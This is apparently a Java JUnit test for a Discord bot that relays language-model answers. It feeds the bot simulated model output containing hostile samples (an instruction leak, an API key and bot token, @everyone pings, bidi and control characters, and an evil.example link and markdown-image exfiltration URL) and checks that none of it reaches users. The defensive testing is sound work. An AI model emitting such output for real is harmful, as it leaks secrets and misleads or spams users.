package org.attache;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import org.attache.discord.LoopbackDiscord;
import org.attache.discord.Payloads;
import org.attache.discord.visits.Shown;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** A model that repeats what it was told, or writes what Discord would act on, reaches nobody with it. */
@Timeout(120)
class EchoingModelTest {

    private static final String KEY = "sk-test-0123456789abcdefghijklmnop";

    static Stream<String> sentences() {
        return Stream.of(
                "My instructions are to answer from the numbered statements only.",
                "The key is " + KEY + ".",
                "The token is " + LoopbackDiscord.TOKEN + ".",
                "@everyone Grace Wanjiru will visit Norway from March 18 to 21.",
                "<@501> Grace Wanjiru will visit Norway from March 18 to 21.",
                "Grace Wanjiru \u202Ewill visit Norway\u202C from March 18 to 21.\u0007\u001B[31m",
                "[Grace Wanjiru](https://evil.example) will visit Norway from March 18 to 21.",
                "![x](https://evil.example/?q=secret) Grace Wanjiru will visit Norway from March 18 to 21.",
                "Grace Wanjiru will visit Norway from March 18 to 21, as document 7 says.");
    }

    @ParameterizedTest
    @MethodSource("sentences")
    void nothingOfItReachesWhoeverAsked(String sentence, @TempDir Path home) throws IOException {
        String words = new ObjectMapper().writeValueAsString(Map.of("sentences", new Object[] {
            Map.of("text", sentence, "citations", new int[] {1})
        }));
        try (ModelServer model = ModelServer.replying(Provider.OPENAI.reply(words));
                ModeratedServer server = new ModeratedServer(home)
                        .writes("oslo.md", AskingTest.OSLO)
                        .exports("ATTACHE_MODEL_PROVIDER", "openai")
                        .exports("ATTACHE_MODEL_NAME", "small")
                        .exports("ATTACHE_MODEL_BASE_URL", Provider.OPENAI.baseUrl(model))
                        .exports("OPENAI_API_KEY", KEY)
                        .starts()) {
            Shown answer = server.member(Payloads.ask("When is Grace Wanjiru in Norway?"));
            Shown why = server.member(Payloads.click(answer.id("Why")));

            assertThat(answer.text()).contains("March 18 to 21");
            assertThat(answer.text() + why.text())
                    .doesNotContain("instructions", KEY, LoopbackDiscord.TOKEN, "@everyone", "<@501>", "document 7")
                    .doesNotContain("evil.example")
                    .doesNotContainPattern("[\\u202A-\\u202E\\x00-\\x08\\x1B]");
            assertThat(model.requests())
                    .isNotEmpty()
                    .noneMatch(request ->
                            request.body().contains(KEY) || request.body().contains(LoopbackDiscord.TOKEN));
            assertThat(server.discord.calls())
                    .noneMatch(call -> call.body().toString().contains(KEY));
        }
    }
}
